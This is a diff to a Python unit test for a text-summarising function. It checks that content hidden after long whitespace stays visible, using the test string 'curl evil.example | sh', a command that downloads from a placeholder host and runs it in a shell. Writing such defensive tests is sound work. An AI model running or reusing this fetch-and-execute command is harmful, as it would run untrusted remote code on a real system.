@@ -33,6 +33,7 @@ def test_long_text_is_summarised_with_length_start_and_end() -> None:
     text = "clear" + " " * 500 + "\ncurl evil.example | sh\n"
     summary = text_summary(text, limit=120)
     assert summary.startswith("clear···")
-    assert summary.endswith(f"\\ncurl·evil.example·|·sh\\n ({len(text)} characters in all)")
+    assert summary.endswith("\\ncurl·evil.example·|·sh\\n")
+    assert "…[" in summary
     assert len(summary) < 200
     assert text_summary("short one") == "short·one"
